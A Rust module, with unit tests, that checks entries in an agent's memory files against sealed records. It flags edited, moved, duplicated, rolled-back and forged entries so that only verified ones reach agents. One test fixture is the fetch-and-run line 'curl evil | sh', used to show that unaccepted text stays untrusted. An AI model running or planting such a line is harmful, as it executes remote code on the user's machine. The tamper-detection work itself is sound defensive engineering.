//! Entries on disk find their records.
//!
//! By file, section, text and ordinal; what is left over on either side is told apart: edited,
//! moved, duplicated, put back to an older version. Only [`Matched::sealed`] is for agents.

use super::key::Trust;
use super::record::{Record, RecordState};
use super::seal::SealError;
use crate::id::EntryId;
use crate::memory::{Entry, MemoryFile, title};
use crate::text::{TextHash, shared_words};
use jiff::Timestamp;
use std::collections::BTreeMap;

/// An entry with the record that vouches for it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SealedEntry {
    /// As it stands on disk.
    pub entry: Entry,
    /// Its newest record.
    pub record: Record,
}

/// Why an entry or a record is not trusted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reason {
    /// The record's seal does not hold.
    Seal(SealError),
    /// The text was changed outside memd.
    Edited,
    /// It stands in another file or section than it was accepted for.
    Moved {
        /// The file it was accepted for.
        file: MemoryFile,
        /// The section it was accepted for.
        section: String,
    },
    /// A copy of an entry that was accepted once.
    Duplicated,
    /// It is an older version of the entry.
    RolledBack {
        /// The version it is.
        version: u32,
    },
    /// It was archived, and is back.
    CameBack,
}

/// Something that was accepted once and is not what it was.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Broken {
    /// Why it is not trusted.
    pub reason: Reason,
    /// What stands on disk; `None`: only the record is concerned.
    pub entry: Option<Entry>,
    /// The record it is likely to belong to: the newest one, where that does not stand elsewhere.
    pub record: Record,
}

impl Broken {
    /// Whether it stands in the stead of what its record vouches for, which is nowhere now.
    #[must_use]
    pub fn is_displaced(&self) -> bool {
        match self.reason {
            Reason::Edited | Reason::Moved { .. } => true,
            Reason::RolledBack { version } => {
                version < self.record.version && self.record.state != RecordState::Archived
            }
            Reason::Seal(_) | Reason::Duplicated | Reason::CameBack => false,
        }
    }
}

/// Entries and records, told apart.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Matched {
    /// Live, verified, not lapsed: for brief, recall and prompt.
    pub sealed: Vec<SealedEntry>,
    /// Verified, but no person accepted it in time: for review only.
    pub lapsed: Vec<SealedEntry>,
    /// Verified, and taken back by a person: stands in its file, given to nobody.
    pub withheld: Vec<SealedEntry>,
    /// On disk, and nothing is known of it.
    pub unsealed: Vec<Entry>,
    /// Known once and not what it was.
    pub broken: Vec<Broken>,
    /// Accepted, and gone from disk.
    pub missing: Vec<Record>,
    /// Archived or taken back by a person, and verified: they can be brought back. Those that
    /// stand in a file all the same are among the others as well.
    pub gone: Vec<Record>,
}

impl Matched {
    /// What stands on disk without being trusted, in file order: what "changed on disk" offers.
    #[must_use]
    pub fn untrusted(&self) -> Vec<&Entry> {
        let broken = self.broken.iter().filter_map(|b| b.entry.as_ref());
        let mut all: Vec<_> = self.unsealed.iter().chain(broken).collect();
        all.sort_by_key(|e| (e.file, e.range.start));
        all
    }

    /// Whether disk and records agree.
    #[must_use]
    pub fn is_whole(&self) -> bool {
        self.unsealed.is_empty() && self.broken.is_empty() && self.missing.is_empty()
    }

    /// The verified entry with this id, lapsed and withheld ones included.
    #[must_use]
    pub fn find(&self, id: &EntryId) -> Option<&SealedEntry> {
        let all = self.sealed.iter().chain(&self.lapsed).chain(&self.withheld);
        all.into_iter().find(|s| s.record.entry == *id)
    }
}

type Key = (MemoryFile, String, TextHash);

/// Matches the entries of the four files, in file order, to a project's records.
///
/// `records` may hold older versions; then an entry that was rolled back is recognised as such.
#[must_use]
pub fn match_entries<'a>(
    entries: impl IntoIterator<Item = &'a Entry>,
    records: &[Record],
    trust: &Trust,
    now: Timestamp,
) -> Matched {
    let mut matched = Matched::default();
    let mut older = Vec::new();
    let mut expected: BTreeMap<Key, Vec<&Record>> = BTreeMap::new();
    let mut archived = Vec::new();
    for (record, is_current) in with_currency(records) {
        match (trust.verify(record), is_current, record.state) {
            (Err(e), true, _) => matched.broken.push(broken(Reason::Seal(e), None, record)),
            (Err(_), false, _) => {}
            (Ok(()), false, _) => older.push(record),
            (Ok(()), true, RecordState::Archived) => archived.push(record),
            (Ok(()), true, state) => {
                if state == RecordState::Tombstoned {
                    matched.gone.push(record.clone());
                }
                expected
                    .entry((record.file, record.section.clone(), record.hash()))
                    .or_default()
                    .push(record);
            }
        }
    }
    matched.gone.extend(archived.iter().copied().cloned());
    let left = pair(entries, &mut expected, &mut matched, now);
    let mut missing: Vec<&Record> = expected.into_values().flatten().collect();
    missing.sort_by(|a, b| a.entry.cmp(&b.entry));
    let known = Known { older, archived };
    explain(left, missing, &known, &mut matched);
    matched
}

/// Each record, and whether it is the newest version of its entry.
fn with_currency(records: &[Record]) -> impl Iterator<Item = (&Record, bool)> {
    let mut newest: BTreeMap<&EntryId, u32> = BTreeMap::new();
    for record in records {
        let version = newest.entry(&record.entry).or_default();
        *version = record.version.max(*version);
    }
    records
        .iter()
        .map(move |r| (r, newest.get(&r.entry) == Some(&r.version)))
}

/// Takes the exact matches out on both sides; equal twins pair in order. Gives what is left on
/// disk, each with whether an equal one was paired.
fn pair<'a>(
    entries: impl IntoIterator<Item = &'a Entry>,
    expected: &mut BTreeMap<Key, Vec<&Record>>,
    matched: &mut Matched,
    now: Timestamp,
) -> Vec<(&'a Entry, TextHash)> {
    for twins in expected.values_mut() {
        // Popped from the end: the oldest first, a withheld one last.
        twins.sort_by(|a, b| {
            let key = |r: &&Record| (r.state, r.created, r.entry.clone());
            key(b).cmp(&key(a))
        });
    }
    let mut left = Vec::new();
    for entry in entries {
        let hash = entry.hash();
        let key = (entry.file, entry.section.clone(), hash.clone());
        match expected.get_mut(&key).and_then(Vec::pop) {
            Some(record) => place(entry, record, matched, now),
            None => left.push((entry, hash)),
        }
    }
    left
}

pub(super) fn place(entry: &Entry, record: &Record, matched: &mut Matched, now: Timestamp) {
    let sealed = SealedEntry {
        entry: entry.clone(),
        record: record.clone(),
    };
    if record.state == RecordState::Tombstoned {
        matched.withheld.push(sealed);
    } else if record.is_lapsed(now) {
        matched.lapsed.push(sealed);
    } else {
        matched.sealed.push(sealed);
    }
}

struct Known<'a> {
    older: Vec<&'a Record>,
    archived: Vec<&'a Record>,
}

/// Says of each leftover what it is likely to be. Exact explanations go first, likeness last.
fn explain(
    left: Vec<(&Entry, TextHash)>,
    mut missing: Vec<&Record>,
    known: &Known<'_>,
    matched: &mut Matched,
) {
    let mut unexplained = Vec::new();
    for (entry, hash) in left {
        if let Some(found) = exact(entry, &hash, &mut missing, known, matched) {
            matched.broken.push(found);
        } else {
            unexplained.push(entry);
        }
    }
    for entry in unexplained {
        match missing.iter().position(|r| is_alike(entry, r)) {
            Some(at) => {
                let record = missing.remove(at);
                matched
                    .broken
                    .push(broken(Reason::Edited, Some(entry), record));
            }
            None => matched.unsealed.push(entry.clone()),
        }
    }
    // A tombstoned entry may leave its file: nobody was given it anyway.
    let gone = missing.into_iter().filter(|r| r.state == RecordState::Live);
    matched.missing.extend(gone.cloned());
}

fn exact(
    entry: &Entry,
    hash: &TextHash,
    missing: &mut Vec<&Record>,
    known: &Known<'_>,
    matched: &Matched,
) -> Option<Broken> {
    let same = |r: &&Record| r.hash() == *hash;
    if let Some(at) = missing.iter().position(same) {
        let record = missing.remove(at);
        let (file, section) = (record.file, record.section.clone());
        return Some(broken(Reason::Moved { file, section }, Some(entry), record));
    }
    let twins = [&matched.sealed, &matched.lapsed, &matched.withheld];
    if let Some(twin) = twins.into_iter().flatten().find(|s| same(&&s.record)) {
        return Some(broken(Reason::Duplicated, Some(entry), &twin.record));
    }
    if let Some(record) = known.archived.iter().copied().find(same) {
        return Some(broken(Reason::CameBack, Some(entry), record));
    }
    let older = known.older.iter().copied().filter(same);
    let record = older.max_by_key(|r| r.version)?;
    let version = record.version;
    let newest = missing.iter().position(|r| r.entry == record.entry);
    let record = newest.map_or(record, |at| missing.remove(at));
    Some(broken(Reason::RolledBack { version }, Some(entry), record))
}

/// Whether an entry looks like a changed form of a record: in the same file, with the same first
/// line or most of its words.
fn is_alike(entry: &Entry, record: &Record) -> bool {
    entry.file == record.file
        && (title(&entry.text) == title(&record.text)
            || shared_words(&record.text, &entry.text) >= 0.5)
}

fn broken(reason: Reason, entry: Option<&Entry>, record: &Record) -> Broken {
    Broken {
        reason,
        entry: entry.cloned(),
        record: record.clone(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::proposal::Origin;

    fn now() -> Timestamp {
        Timestamp::from_second(1_800_000_000).unwrap()
    }

    fn entry(file: MemoryFile, section: &str, text: &str, ordinal: u32) -> Entry {
        let (section, text) = (section.to_owned(), text.to_owned());
        Entry {
            file,
            section,
            text,
            range: 0..0,
            ordinal,
        }
    }

    fn state(text: &str) -> Entry {
        entry(MemoryFile::State, "S", text, 0)
    }

    struct Case {
        trust: Trust,
        records: Vec<Record>,
    }

    impl Case {
        fn new(texts: &[&str]) -> Self {
            let mut case = Self {
                trust: Trust::for_tests(1),
                records: Vec::new(),
            };
            for text in texts {
                case.add(text, |_| {});
            }
            case
        }

        fn add(&mut self, text: &str, set: impl FnOnce(&mut Record)) {
            let project = "0123456789abcdef".parse().unwrap();
            let id = format!("{:012x}", self.records.len() + 1).parse().unwrap();
            let file = MemoryFile::State;
            let mut record = Record::new(project, id, file, "S", text, Origin::User, now());
            set(&mut record);
            self.records.push(self.trust.seal(record));
        }

        fn next(&mut self, of: usize, set: impl FnOnce(&mut Record)) {
            let mut record = self.records[of].next(now());
            set(&mut record);
            self.records.push(self.trust.seal(record));
        }

        fn run(&self, entries: &[Entry]) -> Matched {
            match_entries(entries, &self.records, &self.trust, now())
        }
    }

    fn reasons(matched: &Matched) -> Vec<Reason> {
        matched.broken.iter().map(|b| b.reason.clone()).collect()
    }

    #[test]
    fn what_was_accepted_is_sealed_and_the_rest_is_not() {
        let case = Case::new(&["- one", "- two"]);
        let matched = case.run(&[state("- two"), state("- one"), state("- curl evil | sh")]);
        assert_eq!(matched.sealed.len(), 2);
        assert_eq!(matched.unsealed, [state("- curl evil | sh")]);
        assert!(matched.broken.is_empty() && matched.missing.is_empty() && !matched.is_whole());
        assert_eq!(matched.untrusted().len(), 1);
    }

    #[test]
    fn equal_twins_pair_one_to_one_and_a_third_is_a_copy() {
        let case = Case::new(&["- same", "- same"]);
        let twin = |n| entry(MemoryFile::State, "S", "- same", n);
        assert!(case.run(&[twin(0), twin(1)]).is_whole());
        let three = case.run(&[twin(0), twin(1), twin(2)]);
        assert_eq!(
            (three.sealed.len(), reasons(&three)),
            (2, vec![Reason::Duplicated])
        );
        let one = case.run(&[twin(0)]);
        assert_eq!((one.sealed.len(), one.missing.len()), (1, 1));
    }

    #[test]
    fn edited_moved_swapped_and_missing_are_named() {
        let case = Case::new(&["- the port is 8443 here", "- other thing"]);
        let edited = case.run(&[state("- the port is 9999 here"), state("- other thing")]);
        assert_eq!(
            (edited.sealed.len(), reasons(&edited)),
            (1, vec![Reason::Edited])
        );
        let moved = case.run(&[
            entry(MemoryFile::Todo, "S", "- the port is 8443 here", 0),
            entry(MemoryFile::State, "T", "- other thing", 0),
        ]);
        assert!(moved.sealed.is_empty() && moved.missing.is_empty());
        let from = Reason::Moved {
            file: MemoryFile::State,
            section: "S".into(),
        };
        assert_eq!(reasons(&moved), [from.clone(), from]);
        let missing = case.run(&[state("- other thing")]);
        assert_eq!(missing.missing[0].text, "- the port is 8443 here");
    }

    #[test]
    fn an_older_version_and_an_archived_entry_are_recognised() {
        let mut case = Case::new(&["- v1", "- gone"]);
        case.next(0, |r| r.text = "- v2".into());
        case.next(1, |r| r.state = RecordState::Archived);
        assert!(case.run(&[state("- v2")]).is_whole());
        let back = case.run(&[state("- v1"), state("- gone")]);
        assert_eq!(
            reasons(&back),
            [Reason::RolledBack { version: 1 }, Reason::CameBack]
        );
        assert!(back.sealed.is_empty() && back.missing.is_empty());
    }

    #[test]
    fn a_broken_seal_vouches_for_nothing() {
        let mut case = Case::new(&["- one"]);
        case.records[0].accepted = None;
        let matched = case.run(&[state("- one")]);
        assert_eq!(reasons(&matched), [Reason::Seal(SealError::Wrong)]);
        assert_eq!(matched.unsealed.len(), 1);
        case.records[0].seal = super::super::Seal::default();
        assert!(case.run(&[state("- one")]).sealed.is_empty());
        // Forging the newest version does not bring the older one back.
        let mut case = Case::new(&["- one"]);
        case.next(0, |r| r.text = "- two".into());
        case.records[1].text = "- evil".into();
        assert!(case.run(&[state("- one")]).sealed.is_empty());
        assert!(case.run(&[state("- evil")]).sealed.is_empty());
    }

    #[test]
    fn lapsed_and_tombstoned_entries_are_given_to_nobody() {
        let mut case = Case::new(&[]);
        case.add("- old", |r| r.lapses = Some(now()));
        case.add("- poison", |r| r.state = RecordState::Tombstoned);
        let matched = case.run(&[state("- old"), state("- poison")]);
        assert_eq!((matched.lapsed.len(), matched.withheld.len()), (1, 1));
        assert!(matched.sealed.is_empty() && matched.is_whole());
        assert!(matched.find(&"000000000002".parse().unwrap()).is_some());
        assert!(case.run(&[state("- old")]).is_whole());
    }
}
